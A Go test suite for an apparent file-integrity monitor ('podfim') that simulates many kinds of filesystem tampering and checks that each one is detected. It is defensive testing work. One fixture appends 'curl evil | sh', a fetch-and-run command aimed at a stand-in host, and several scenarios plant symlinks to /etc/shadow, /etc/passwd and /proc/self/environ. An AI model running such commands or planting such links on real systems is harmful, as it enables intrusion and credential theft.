package tamper_test

import (
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/podfim/podfim/internal/report"
)

// scenario is one way of tampering with a fixture.
type scenario struct {
	name string
	// root: the scenario needs root privileges.
	root bool
	// tamper changes the tree after the baseline.
	tamper func(t *testing.T, f *fixture)
	// exit is the status every check must exit with; it must agree with want.
	exit int
	want []want
	// verify, if set, makes extra assertions on each report.
	verify func(t *testing.T, f *fixture, rep *jsonReport)
}

// ACL and capability values.
var (
	// user::rw-,user:1000:r--,group::r--,mask::r--,other::r--: the mask
	// equals the group bits of 0644, so granting it leaves the mode alone.
	aclGrant = report.EncodeACL(
		[3]uint32{0x01, 6, 0}, [3]uint32{0x02, 4, 1000}, [3]uint32{0x04, 4, 0},
		[3]uint32{0x10, 4, 0}, [3]uint32{0x20, 4, 0})
	aclGrantText = "user::rw-,user:1000:r--,group::r--,mask::r--,other::r--"
	// A default ACL for a 0755 directory.
	aclDefault = report.EncodeACL(
		[3]uint32{0x01, 7, 0}, [3]uint32{0x02, 5, 1000}, [3]uint32{0x04, 5, 0},
		[3]uint32{0x10, 5, 0}, [3]uint32{0x20, 5, 0})
	aclDefaultText = "user::rwx,user:1000:r-x,group::r-x,mask::r-x,other::r-x"
	// struct vfs_cap_data, revision 2 (VFS_CAP_REVISION_2 0x02000000 |
	// VFS_CAP_FLAGS_EFFECTIVE 1), permitted = CAP_NET_BIND_SERVICE (10).
	capNetBind = binary.LittleEndian.AppendUint32(binary.LittleEndian.AppendUint32(
		binary.LittleEndian.AppendUint32(binary.LittleEndian.AppendUint32(
			binary.LittleEndian.AppendUint32(nil, 0x02000001), 1<<10), 0), 0), 0)
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// finding returns the finding for a path and kind, failing if there is none.
func finding(t *testing.T, rep *jsonReport, path, kind string) *jsonFinding {
	t.Helper()
	for i := range rep.Findings {
		if jf := &rep.Findings[i]; jf.rawPath(t) == path && jf.Kind == kind {
			return jf
		}
	}
	t.Fatalf("no %s finding for %q", kind, path)
	return nil
}

// field asserts that an old or new record holds key with the value want
// (compared as printed), or lacks key when want is nil.
func field(t *testing.T, path, side string, rec map[string]any, key string, want any) {
	t.Helper()
	got, ok := rec[key]
	switch {
	case want == nil && ok:
		t.Errorf("%q %s.%s = %v, want no such field", path, side, key, got)
	case want != nil && !ok:
		t.Errorf("%q %s lacks %s (want %v): %v", path, side, key, want, rec)
	case want != nil && fmt.Sprint(got) != fmt.Sprint(want):
		t.Errorf("%q %s.%s = %v, want %v", path, side, key, got, want)
	}
}

func scenarios() []scenario {
	return []scenario{
		// Content.
		{
			name: "content changed, same size, mtime restored",
			tamper: func(t *testing.T, f *fixture) {
				f.keepTimes("/etc/motd", func() { f.write("/etc/motd", "Hello, World!\n", 0o644) })
			},
			exit: 4, want: []want{changed("/etc/motd", "ctime", "sha256")},
		},
		{
			name: "content changed, same size",
			tamper: func(t *testing.T, f *fixture) {
				f.write("/etc/app.conf", "listen=8081\nroot=/srv/www\n", 0o644)
			},
			exit: 4, want: []want{changed("/etc/app.conf", "mtime", "ctime", "sha256")},
		},
		{
			name: "file truncated",
			tamper: func(t *testing.T, f *fixture) {
				must(t, os.Truncate(f.p("/data/blob"), 100))
			},
			exit: 4, want: []want{changed("/data/blob", "size", "mtime", "ctime", "sha256")},
		},
		{
			name: "file appended",
			tamper: func(t *testing.T, f *fixture) {
				f.appendTo("/data/blob", "#!/bin/sh\ncurl evil | sh\n")
			},
			exit: 4, want: []want{changed("/data/blob", "size", "mtime", "ctime", "sha256")},
		},
		// Times.
		{
			name: "sub-second mtime change only",
			tamper: func(t *testing.T, f *fixture) {
				m := f.lstat("/etc/motd").Mtim
				if m.Nsec == 999_999_999 {
					m.Nsec--
				} else {
					m.Nsec++
				}
				f.setTimes("/etc/motd", unix.Timespec{Nsec: unix.UTIME_OMIT}, m)
			},
			exit: 4, want: []want{changed("/etc/motd", "mtime", "ctime")},
		},
		{
			name: "mtime set back one second",
			tamper: func(t *testing.T, f *fixture) {
				m := f.lstat("/etc/motd").Mtim
				m.Sec--
				f.setTimes("/etc/motd", unix.Timespec{Nsec: unix.UTIME_OMIT}, m)
			},
			exit: 4, want: []want{changed("/etc/motd", "mtime", "ctime")},
		},
		{
			name: "atime changed by reading is silent",
			tamper: func(t *testing.T, f *fixture) {
				// The scanner reads with O_NOATIME, so the atime is still
				// the creation time and relatime updates it on this read.
				for _, p := range []string{"/etc/motd", "/data/blob", "/bin/tool"} {
					before := f.lstat(p).Atim
					f.read(p)
					if f.lstat(p).Atim == before {
						t.Fatalf("reading %s did not change its atime; the scenario tests nothing", p)
					}
				}
			},
			exit: 0,
		},
		{
			// Setting a time explicitly (utimensat) always sets the ctime,
			// even when only the atime is given: that is a change.
			name: "atime set explicitly changes only ctime",
			tamper: func(t *testing.T, f *fixture) {
				f.setTimes("/etc/motd", unix.NsecToTimespec(time.Now().Add(-time.Hour).UnixNano()),
					unix.Timespec{Nsec: unix.UTIME_OMIT})
			},
			exit: 4, want: []want{changed("/etc/motd", "ctime")},
		},
		// Permissions and owners.
		{
			name:   "chmod",
			tamper: func(t *testing.T, f *fixture) { f.chmod("/etc/app.conf", 0o600) },
			exit:   4, want: []want{changed("/etc/app.conf", "mode", "ctime")},
		},
		{
			name:   "setuid bit added",
			tamper: func(t *testing.T, f *fixture) { f.chmod("/bin/tool", 0o4755) },
			exit:   4, want: []want{changed("/bin/tool", "mode", "ctime")},
			verify: func(t *testing.T, f *fixture, rep *jsonReport) {
				jf := finding(t, rep, "/bin/tool", "changed")
				field(t, "/bin/tool", "old", jf.Old, "mode", "0755")
				field(t, "/bin/tool", "new", jf.New, "mode", "4755")
			},
		},
		{
			name:   "sticky bit on a directory",
			tamper: func(t *testing.T, f *fixture) { f.chmod("/srv/www", 0o1755) },
			exit:   4, want: []want{changed("/srv/www", "mode", "ctime")},
		},
		{
			name: "chmod and back leaves only ctime",
			tamper: func(t *testing.T, f *fixture) {
				f.chmod("/etc/app.conf", 0o666)
				f.chmod("/etc/app.conf", 0o644)
			},
			exit: 4, want: []want{changed("/etc/app.conf", "ctime")},
		},
		{
			name: "chown uid", root: true,
			tamper: func(t *testing.T, f *fixture) { must(t, os.Lchown(f.p("/etc/app.conf"), 1000, -1)) },
			exit:   4, want: []want{changed("/etc/app.conf", "uid", "ctime")},
		},
		{
			name: "chgrp", root: true,
			tamper: func(t *testing.T, f *fixture) { must(t, os.Lchown(f.p("/etc/app.conf"), -1, 1000)) },
			exit:   4, want: []want{changed("/etc/app.conf", "gid", "ctime")},
		},
		{
			name: "symlink owner changed", root: true,
			tamper: func(t *testing.T, f *fixture) { must(t, os.Lchown(f.p("/etc/current"), 1000, 1000)) },
			exit:   4, want: []want{changed("/etc/current", "uid", "gid", "ctime")},
		},
		// Extended attributes.
		{
			name: "ACL grant",
			tamper: func(t *testing.T, f *fixture) {
				f.setxattr("/etc/app.conf", "system.posix_acl_access", aclGrant)
			},
			exit: 4, want: []want{changed("/etc/app.conf", "ctime", "acl")},
			verify: func(t *testing.T, f *fixture, rep *jsonReport) {
				jf := finding(t, rep, "/etc/app.conf", "changed")
				field(t, "/etc/app.conf", "old", jf.Old, "acl", nil)
				field(t, "/etc/app.conf", "new", jf.New, "acl", aclGrantText)
				field(t, "/etc/app.conf", "new", jf.New, "mode", "0644")
			},
		},
		{
			name: "default ACL on a directory",
			tamper: func(t *testing.T, f *fixture) {
				f.setxattr("/srv/www", "system.posix_acl_default", aclDefault)
			},
			exit: 4, want: []want{changed("/srv/www", "ctime", "acl")},
			verify: func(t *testing.T, f *fixture, rep *jsonReport) {
				jf := finding(t, rep, "/srv/www", "changed")
				field(t, "/srv/www", "new", jf.New, "acl_default", aclDefaultText)
			},
		},
		{
			name:   "user xattr added",
			tamper: func(t *testing.T, f *fixture) { f.setxattr("/etc/motd", "user.added", []byte("yes")) },
			exit:   4, want: []want{changed("/etc/motd", "ctime", "xattrs")},
		},
		{
			name:   "xattr value changed",
			tamper: func(t *testing.T, f *fixture) { f.setxattr("/etc/note", "user.note", []byte("v2")) },
			exit:   4, want: []want{changed("/etc/note", "ctime", "xattrs")},
			verify: func(t *testing.T, f *fixture, rep *jsonReport) {
				jf := finding(t, rep, "/etc/note", "changed")
				field(t, "/etc/note", "old", jf.Old, "xattrs", map[string]any{"user.note": b64("v1")})
				field(t, "/etc/note", "new", jf.New, "xattrs", map[string]any{"user.note": b64("v2")})
			},
		},
		{
			name:   "xattr removed",
			tamper: func(t *testing.T, f *fixture) { must(t, unix.Removexattr(f.p("/etc/note"), "user.note")) },
			exit:   4, want: []want{changed("/etc/note", "ctime", "xattrs")},
			verify: func(t *testing.T, f *fixture, rep *jsonReport) {
				jf := finding(t, rep, "/etc/note", "changed")
				field(t, "/etc/note", "new", jf.New, "xattrs", nil)
			},
		},
		{
			name: "file capability added", root: true,
			tamper: func(t *testing.T, f *fixture) { f.setxattr("/bin/tool", "security.capability", capNetBind) },
			exit:   4, want: []want{changed("/bin/tool", "ctime", "caps")},
			verify: func(t *testing.T, f *fixture, rep *jsonReport) {
				jf := finding(t, rep, "/bin/tool", "changed")
				field(t, "/bin/tool", "new", jf.New, "xattrs",
					map[string]any{"security.capability": base64.StdEncoding.EncodeToString(capNetBind)})
			},
		},
		{
			name: "SELinux label changed", root: true,
			tamper: func(t *testing.T, f *fixture) {
				f.setxattr("/bin/tool", "security.selinux", []byte("system_u:object_r:shell_exec_t:s0\x00"))
			},
			exit: 4, want: []want{changed("/bin/tool", "ctime", "selinux")},
		},
		{
			// trusted.* is visible to root only: a sidecar without
			// CAP_SYS_ADMIN cannot see it, a root scanner must.
			name: "trusted xattr added", root: true,
			tamper: func(t *testing.T, f *fixture) { f.setxattr("/etc/motd", "trusted.hidden", []byte("payload")) },
			exit:   4, want: []want{changed("/etc/motd", "ctime", "xattrs")},
		},
		{
			name: "empty file filled",
			tamper: func(t *testing.T, f *fixture) {
				f.write("/etc/empty", "x", 0o644)
			},
			exit: 4, want: []want{changed("/etc/empty", "size", "mtime", "ctime", "sha256")},
		},
		{
			name: "siblings that sort between a directory and its children",
			tamper: func(t *testing.T, f *fixture) {
				f.write("/srv/www-old", "new\n", 0o644)
				f.write("/srv/www.d/conf", "new\n", 0o644)
				f.write("/srv/www/index.html", "<h1>Hacked</h1>\n", 0o644)
				f.write("/srv/www!", "!\n", 0o644)
				f.write("/srv/www/sub-x", "x\n", 0o644)
			},
			exit: 5, want: []want{
				changed("/srv/www-old", "mtime", "ctime", "sha256"),
				changed("/srv/www.d/conf", "size", "mtime", "ctime", "sha256"),
				changed("/srv/www/index.html", "size", "mtime", "ctime", "sha256"),
				added("/srv/www!"), added("/srv/www/sub-x"), dirTouched("/srv"), dirTouched("/srv/www"),
			},
		},
		// Inodes and links.
		{
			name:   "inode replaced, same content, mode and times",
			tamper: func(t *testing.T, f *fixture) { f.copyOver("/etc/motd") },
			exit:   4, want: []want{changed("/etc/motd", "inode", "ctime"), dirTouched("/etc")},
		},
		{
			name:   "hard link added",
			tamper: func(t *testing.T, f *fixture) { f.link("/data/a", "/data/c") },
			exit:   5, want: []want{
				changed("/data/a", "nlink", "ctime"), changed("/data/b", "nlink", "ctime"),
				added("/data/c"), dirTouched("/data"),
			},
		},
		{
			name:   "hard link removed",
			tamper: func(t *testing.T, f *fixture) { f.remove("/data/b") },
			exit:   6, want: []want{changed("/data/a", "nlink", "ctime"), removed("/data/b"), dirTouched("/data")},
		},
		{
			name:   "hard link broken by an identical copy",
			tamper: func(t *testing.T, f *fixture) { f.copyOver("/data/b") },
			exit:   4, want: []want{
				changed("/data/a", "nlink", "ctime"), changed("/data/b", "inode", "nlink", "ctime"),
				dirTouched("/data"),
			},
		},
		{
			name: "symlink retargeted",
			tamper: func(t *testing.T, f *fixture) {
				f.replace("/etc/current", func(tmp string) { f.symlink("motd", tmp) })
			},
			exit: 4, want: []want{
				changed("/etc/current", "size", "inode", "target", "mtime", "ctime"), dirTouched("/etc"),
			},
			verify: func(t *testing.T, f *fixture, rep *jsonReport) {
				jf := finding(t, rep, "/etc/current", "changed")
				field(t, "/etc/current", "old", jf.Old, "target", "app.conf")
				field(t, "/etc/current", "new", jf.New, "target", "motd")
			},
		},
		{
			name: "symlink replaced, same target",
			tamper: func(t *testing.T, f *fixture) {
				f.replace("/etc/current", func(tmp string) { f.symlink("app.conf", tmp) })
			},
			exit: 4, want: []want{changed("/etc/current", "inode", "mtime", "ctime"), dirTouched("/etc")},
		},
		// File types.
		{
			name: "file replaced by a symlink to /etc/shadow",
			tamper: func(t *testing.T, f *fixture) {
				f.replace("/etc/motd", func(tmp string) { f.symlink("/etc/shadow", tmp) })
			},
			exit: 4, want: []want{
				changedAtLeast("/etc/motd", "type", "mode", "size", "inode", "target", "sha256"), dirTouched("/etc"),
			},
			verify: func(t *testing.T, f *fixture, rep *jsonReport) {
				jf := finding(t, rep, "/etc/motd", "changed")
				field(t, "/etc/motd", "old", jf.Old, "type", "file")
				field(t, "/etc/motd", "new", jf.New, "type", "symlink")
				field(t, "/etc/motd", "new", jf.New, "target", "/etc/shadow")
			},
		},
		{
			name: "file replaced by a FIFO",
			tamper: func(t *testing.T, f *fixture) {
				f.replace("/etc/motd", func(tmp string) { f.mkfifo(tmp) })
			},
			exit: 4, want: []want{changedAtLeast("/etc/motd", "type", "size", "inode", "sha256"), dirTouched("/etc")},
			verify: func(t *testing.T, f *fixture, rep *jsonReport) {
				field(t, "/etc/motd", "new", finding(t, rep, "/etc/motd", "changed").New, "type", "fifo")
			},
		},
		{
			name: "file replaced by a directory",
			tamper: func(t *testing.T, f *fixture) {
				f.remove("/etc/motd")
				f.mkdir("/etc/motd", 0o755)
			},
			exit: 4, want: []want{
				changedAtLeast("/etc/motd", "type", "mode", "nlink", "sha256"),
				changedAtLeast("/etc", "nlink", "mtime", "ctime"),
			},
		},
		{
			name: "directory replaced by a file",
			tamper: func(t *testing.T, f *fixture) {
				f.removeAll("/srv/www/sub")
				f.write("/srv/www/sub", "<p>page</p>\n", 0o755)
			},
			exit: 6, want: []want{
				changedAtLeast("/srv/www/sub", "type", "nlink"),
				removed("/srv/www/sub/page.html"),
				changedAtLeast("/srv/www", "nlink", "mtime", "ctime"),
			},
		},
		{
			name: "FIFO replaced by a file",
			tamper: func(t *testing.T, f *fixture) {
				f.replace("/data/fifo", func(tmp string) { f.write(tmp, "not a pipe\n", 0o644) })
			},
			exit: 4, want: []want{changedAtLeast("/data/fifo", "type", "size", "inode", "sha256"), dirTouched("/data")},
		},
		{
			name:   "FIFO added",
			tamper: func(t *testing.T, f *fixture) { f.mkfifo("/data/fifo2") },
			exit:   5, want: []want{added("/data/fifo2"), dirTouched("/data")},
		},
		{
			name:   "socket added",
			tamper: func(t *testing.T, f *fixture) { f.bindSocket("/data/sock") },
			exit:   5, want: []want{added("/data/sock"), dirTouched("/data")},
			verify: func(t *testing.T, f *fixture, rep *jsonReport) {
				field(t, "/data/sock", "new", finding(t, rep, "/data/sock", "added").New, "type", "socket")
			},
		},
		{
			name: "device number changed", root: true,
			tamper: func(t *testing.T, f *fixture) {
				f.replace("/srv/null", func(tmp string) { f.mknod(tmp, 1, 5) })
			},
			exit: 4, want: []want{changed("/srv/null", "type", "inode", "mtime", "ctime"), dirTouched("/srv")},
			verify: func(t *testing.T, f *fixture, rep *jsonReport) {
				jf := finding(t, rep, "/srv/null", "changed")
				field(t, "/srv/null", "old", jf.Old, "rdev", "1:3")
				field(t, "/srv/null", "new", jf.New, "rdev", "1:5")
				field(t, "/srv/null", "new", jf.New, "type", "chardev")
			},
		},
		// Names added, removed, renamed.
		{
			name:   "file deleted",
			tamper: func(t *testing.T, f *fixture) { f.remove("/etc/motd") },
			exit:   6, want: []want{removed("/etc/motd"), dirTouched("/etc")},
		},
		{
			name:   "file added",
			tamper: func(t *testing.T, f *fixture) { f.write("/etc/evil", "pwned\n", 0o644) },
			exit:   5, want: []want{added("/etc/evil"), dirTouched("/etc")},
		},
		{
			name:   "hidden executable added",
			tamper: func(t *testing.T, f *fixture) { f.write("/bin/.x", "#!/bin/sh\n", 0o4755) },
			exit:   5, want: []want{added("/bin/.x"), dirTouched("/bin")},
			verify: func(t *testing.T, f *fixture, rep *jsonReport) {
				field(t, "/bin/.x", "new", finding(t, rep, "/bin/.x", "added").New, "mode", "4755")
			},
		},
		{
			name:   "file renamed",
			tamper: func(t *testing.T, f *fixture) { f.rename("/etc/motd", "/etc/motd.bak") },
			exit:   7, want: []want{removed("/etc/motd"), added("/etc/motd.bak"), dirTouched("/etc")},
		},
		{
			name: "new directory with files",
			tamper: func(t *testing.T, f *fixture) {
				f.mkdir("/srv/new", 0o755)
				f.write("/srv/new/x", "x\n", 0o644)
				f.write("/srv/new/y", "y\n", 0o755)
				f.mkdir("/srv/new/z", 0o700)
				f.write("/srv/new/z/w", "w\n", 0o600)
			},
			exit: 5, want: []want{
				added("/srv/new"), added("/srv/new/x"), added("/srv/new/y"), added("/srv/new/z"), added("/srv/new/z/w"),
				changedAtLeast("/srv", "nlink", "mtime", "ctime"),
			},
		},
		{
			name:   "directory deleted recursively",
			tamper: func(t *testing.T, f *fixture) { f.removeAll("/srv/www") },
			exit:   6, want: []want{
				removed("/srv/www"), removed("/srv/www/index.html"), removed("/srv/www/sub"),
				removed("/srv/www/sub/page.html"), changedAtLeast("/srv", "nlink", "mtime", "ctime"),
			},
		},
		{
			name: "odd names changed",
			tamper: func(t *testing.T, f *fixture) {
				for _, n := range oddNames {
					f.appendTo("/odd/"+n, "!")
				}
			},
			exit: 4, want: func() []want {
				var ws []want
				for _, n := range oddNames {
					ws = append(ws, changed("/odd/"+n, "size", "mtime", "ctime", "sha256"))
				}
				return ws
			}(),
			verify: func(t *testing.T, f *fixture, rep *jsonReport) { checkPathB64(t, rep) },
		},
		{
			name: "odd names added",
			tamper: func(t *testing.T, f *fixture) {
				for _, n := range oddAdded {
					if strings.HasPrefix(n, "dir") && !strings.Contains(n, "/") {
						f.mkdir("/odd/"+n, 0o755)
					} else {
						f.write("/odd/"+n, "new\n", 0o644)
					}
				}
			},
			exit: 5, want: func() []want {
				ws := []want{changedAtLeast("/odd", "nlink", "mtime", "ctime")}
				for _, n := range oddAdded {
					ws = append(ws, added("/odd/"+n))
				}
				return ws
			}(),
			verify: func(t *testing.T, f *fixture, rep *jsonReport) { checkPathB64(t, rep) },
		},
		// Nothing to see.
		{
			name: "no change", exit: 0, tamper: func(t *testing.T, f *fixture) {},
			verify: func(t *testing.T, f *fixture, rep *jsonReport) {
				// A quick check of an untouched, settled tree hashes only
				// the Growing /var/log/app.log.
				if s := rep.Summary; s.Quick && (s.Hashed != 1 || s.Reused != int64(f.settledFiles())) {
					t.Errorf("quick check of an unchanged tree: hashed %d, reused %d; want 1 and %d", s.Hashed, s.Reused, f.settledFiles())
				}
			},
		},
		{
			name: "growing log appended",
			tamper: func(t *testing.T, f *fixture) {
				f.appendTo("/var/log/app.log", "GET / 200\n")
			},
			exit: 0,
		},
		{
			name: "growing log truncated",
			tamper: func(t *testing.T, f *fixture) {
				must(t, os.Truncate(f.p("/var/log/app.log"), 3))
			},
			exit: 4, want: []want{changed("/var/log/app.log", "size", "sha256")},
		},
		{
			name: "ignored /tmp changed",
			tamper: func(t *testing.T, f *fixture) {
				f.write("/tmp/new", "new\n", 0o644)
				f.appendTo("/tmp/scratch", "more\n")
				f.chmod("/tmp", 0o1777)
			},
			exit: 0,
		},
		// Symlinks out of the tree: podfim records the links and never what
		// they point to.
		{
			name: "files behind escape links changed",
			tamper: func(t *testing.T, f *fixture) {
				must(t, os.WriteFile(filepath.Join(f.outside, "secret.txt"), []byte("changed\n"), 0o644))
				must(t, os.WriteFile(filepath.Join(f.outside, "planted"), []byte("planted\n"), 0o644))
			},
			exit: 0,
		},
		{
			name: "escape links added",
			tamper: func(t *testing.T, f *fixture) {
				for link, target := range escapeAdded(f) {
					f.symlink(target, link)
				}
			},
			exit: 5, want: []want{
				added("/esc/environ2"), added("/esc/shadow2"), added("/esc/rel2"), added("/esc/outdir2"),
				added("/esc/self"), dirTouched("/esc"),
			},
			verify: func(t *testing.T, f *fixture, rep *jsonReport) {
				for link, target := range escapeAdded(f) {
					jf := finding(t, rep, link, "added")
					field(t, link, "new", jf.New, "type", "symlink")
					field(t, link, "new", jf.New, "target", target)
				}
			},
		},
		{
			name:   "symlink with a non-UTF-8 target added",
			tamper: func(t *testing.T, f *fixture) { f.symlink("\xff/../etc/passwd", "/esc/badtarget") },
			exit:   5, want: []want{added("/esc/badtarget"), dirTouched("/esc")},
			verify: func(t *testing.T, f *fixture, rep *jsonReport) {
				jf := finding(t, rep, "/esc/badtarget", "added")
				field(t, "/esc/badtarget", "new", jf.New, "type", "symlink")
				field(t, "/esc/badtarget", "new", jf.New, "target_b64", b64("\xff/../etc/passwd"))
			},
		},
		{
			name: "escape link retargeted",
			tamper: func(t *testing.T, f *fixture) {
				// Same length, so the size stays.
				f.replace("/esc/environ", func(tmp string) { f.symlink("/proc/self/cmdline", tmp) })
			},
			exit: 4, want: []want{changed("/esc/environ", "inode", "target", "mtime", "ctime"), dirTouched("/esc")},
			verify: func(t *testing.T, f *fixture, rep *jsonReport) {
				jf := finding(t, rep, "/esc/environ", "changed")
				field(t, "/esc/environ", "old", jf.Old, "target", "/proc/self/environ")
				field(t, "/esc/environ", "new", jf.New, "target", "/proc/self/cmdline")
			},
		},
		{
			name: "escape directory link retargeted",
			tamper: func(t *testing.T, f *fixture) {
				f.replace("/esc/outdir", func(tmp string) { f.symlink(f.outside2, tmp) })
			},
			exit: 4, want: []want{changed("/esc/outdir", "inode", "target", "mtime", "ctime"), dirTouched("/esc")},
			verify: func(t *testing.T, f *fixture, rep *jsonReport) {
				jf := finding(t, rep, "/esc/outdir", "changed")
				field(t, "/esc/outdir", "old", jf.Old, "target", f.outside)
				field(t, "/esc/outdir", "new", jf.New, "target", f.outside2)
			},
		},
		{
			name: "directory replaced by a symlink out of the tree",
			tamper: func(t *testing.T, f *fixture) {
				f.removeAll("/srv/www")
				f.symlink(f.outside, "/srv/www")
			},
			exit: 6, want: []want{
				changedAtLeast("/srv/www", "type", "mode", "nlink", "target"),
				removed("/srv/www/index.html"), removed("/srv/www/sub"), removed("/srv/www/sub/page.html"),
				changedAtLeast("/srv", "nlink", "mtime", "ctime"),
			},
			verify: func(t *testing.T, f *fixture, rep *jsonReport) {
				jf := finding(t, rep, "/srv/www", "changed")
				field(t, "/srv/www", "new", jf.New, "type", "symlink")
				field(t, "/srv/www", "new", jf.New, "target", f.outside)
			},
		},
	}
}

// Odd names added by "odd names added".
var oddAdded = []string{"\n", "tab\there", "dot. ", "\xfe\xfd", "--help", strings.Repeat("M", 255), "dir\xff\n", "dir\xff\n/-"}

// escapeAdded are the links "escape links added" plants.
func escapeAdded(f *fixture) map[string]string {
	return map[string]string{
		"/esc/environ2": "/proc/self/environ",
		"/esc/shadow2":  "/etc/shadow",
		"/esc/rel2":     "../../../../../../etc/passwd",
		"/esc/outdir2":  f.outside2,
		"/esc/self":     "/",
	}
}

// checkPathB64 asserts that path_b64 is present exactly for the findings
// whose path is not valid UTF-8, and that path holds the name as is
// otherwise.
func checkPathB64(t *testing.T, rep *jsonReport) {
	t.Helper()
	for _, jf := range rep.Findings {
		raw := jf.rawPath(t)
		valid := strings.ToValidUTF8(raw, "\uFFFD") == raw
		switch {
		case valid && jf.PathB64 != "":
			t.Errorf("finding %q: path_b64 %q on a valid UTF-8 path", jf.Path, jf.PathB64)
		case !valid && jf.PathB64 == "":
			t.Errorf("finding %q: no path_b64 on an invalid UTF-8 path", jf.Path)
		case !valid && jf.PathB64 != b64(raw):
			t.Errorf("finding %q: path_b64 %q, want %q", jf.Path, jf.PathB64, b64(raw))
		}
	}
	sawInvalid := false
	for _, jf := range rep.Findings {
		if jf.PathB64 != "" {
			sawInvalid = true
		}
	}
	if !sawInvalid {
		t.Errorf("no finding carried path_b64; the non-UTF-8 name was not reported")
	}
}

// TestTamper runs every scenario in three steps:
//
//  1. build every fixture, then wait once until all of them are settled
//     (older than the scanner's racy window), so that the baselines record
//     settled files whose hashes a quick check may reuse;
//  2. per scenario, in parallel: baseline, tamper, and a quick check at once,
//     while the tampered files are still racy (re-hashed whatever their
//     stat says);
//  3. wait once more until the tampered files are settled too, then per
//     scenario, in parallel: a full check and a quick check. Only this quick
//     check puts the reuse decision (size, mtime, ctime, inode) to the test:
//     a tampered file that looks unchanged to it keeps the baseline hash.
func TestTamper(t *testing.T) {
	root := isRoot(t)
	scs := scenarios()
	type state struct {
		f             *fixture
		before, after int  // entries in the tree before and after tampering
		ready         bool // baseline made and tampering done
	}
	states := make([]state, len(scs))
	for i, sc := range scs {
		if exitFor(sc.want) != sc.exit {
			t.Fatalf("scenario %q: exit %d does not match its findings (%d)", sc.name, sc.exit, exitFor(sc.want))
		}
		if sc.root && !root {
			continue
		}
		states[i].f = newFixture(t, root)
	}
	time.Sleep(racyWindow)

	t.Run("racy", func(t *testing.T) {
		for i, sc := range scs {
			t.Run(sc.name, func(t *testing.T) {
				st := &states[i]
				if st.f == nil {
					t.Skip("needs root (PODFIM_ALLOW_NONROOT=1)")
				}
				t.Parallel()
				f := st.f
				f.t = t
				f.makeBaseline(t)
				st.before = f.walkCount()
				sc.tamper(t, f)
				st.after = f.walkCount()
				st.ready = true
				checkScenario(t, sc, f, true, st.before, st.after)
			})
		}
	})
	time.Sleep(racyWindow)

	t.Run("settled", func(t *testing.T) {
		for i, sc := range scs {
			t.Run(sc.name, func(t *testing.T) {
				st := &states[i]
				if st.f == nil {
					t.Skip("needs root (PODFIM_ALLOW_NONROOT=1)")
				}
				if !st.ready {
					t.Fatalf("nothing to check: the baseline or the tampering failed in racy/%s", sc.name)
				}
				t.Parallel()
				for _, quick := range []bool{false, true} {
					name := "full"
					if quick {
						name = "quick"
					}
					t.Run(name, func(t *testing.T) {
						st.f.t = t
						checkScenario(t, sc, st.f, quick, st.before, st.after)
					})
				}
			})
		}
	})
}

// checkScenario runs one check of a tampered fixture and asserts everything
// the scenario expects.
func checkScenario(t *testing.T, sc scenario, f *fixture, quick bool, before, after int) {
	t.Helper()
	code, rep := f.check(t, quick)
	if code != sc.exit {
		t.Errorf("exit %d, want %d", code, sc.exit)
	}
	if rep.Summary.ExitCode != code {
		t.Errorf("summary.exit_code %d, but the check exited %d", rep.Summary.ExitCode, code)
	}
	assertFindings(t, rep, sc.want)
	assertConfined(t, f, rep, before, after)
	assertQuick(t, rep, quick)
	if sc.verify != nil {
		sc.verify(t, f, rep)
	}
}

// assertConfined checks that the check read the tree and nothing else: it
// recorded exactly the entries a walk without following symlinks finds,
// every finding is a path of the tree, and no symlink carries a hash.
func assertConfined(t *testing.T, f *fixture, rep *jsonReport, before, after int) {
	t.Helper()
	if rep.Summary.BaselineEntries != before {
		t.Errorf("baseline has %d entries, the tree had %d", rep.Summary.BaselineEntries, before)
	}
	if rep.Summary.ScannedEntries != after {
		t.Errorf("check scanned %d entries, the tree has %d", rep.Summary.ScannedEntries, after)
	}
	if len(rep.Warnings) != 0 {
		t.Errorf("warnings: %+v", rep.Warnings)
	}
	for _, jf := range rep.Findings {
		p := jf.rawPath(t)
		if !strings.HasPrefix(p, "/") || strings.Contains(p, "secret") || strings.Contains(p, "planted") {
			t.Errorf("finding %q is not a path of the tree", p)
		}
		// Every ancestor of a reported path must be a real directory of
		// the tree (on the side the finding comes from): a path below a
		// symlink means the scan followed it.
		if jf.Kind != "removed" {
			for dir := filepath.Dir(p); dir != "/"; dir = filepath.Dir(dir) {
				if st := f.lstat(dir); st.Mode&unix.S_IFMT != unix.S_IFDIR {
					t.Errorf("finding %q lies below %q, which is not a directory: the scan followed a symlink", p, dir)
				}
			}
		}
		for side, rec := range map[string]map[string]any{"old": jf.Old, "new": jf.New} {
			if rec == nil {
				continue
			}
			if typ := rec["type"]; typ != "file" {
				if _, ok := rec["sha256"]; ok {
					t.Errorf("%q %s is a %v with a content hash: the scan opened it", p, side, typ)
				}
			}
		}
	}
}

// assertQuick checks that a quick check reused baseline hashes (so the
// scenario really exercised quick mode) and a full check did not.
func assertQuick(t *testing.T, rep *jsonReport, quick bool) {
	t.Helper()
	s := rep.Summary
	if s.Quick != quick {
		t.Errorf("summary.quick = %v, want %v", s.Quick, quick)
	}
	switch {
	case quick && s.Reused == 0:
		t.Errorf("quick check reused no baseline hash (hashed %d): every file looked racy or changed", s.Hashed)
	case !quick && s.Reused != 0:
		t.Errorf("full check reused %d baseline hashes", s.Reused)
	}
}
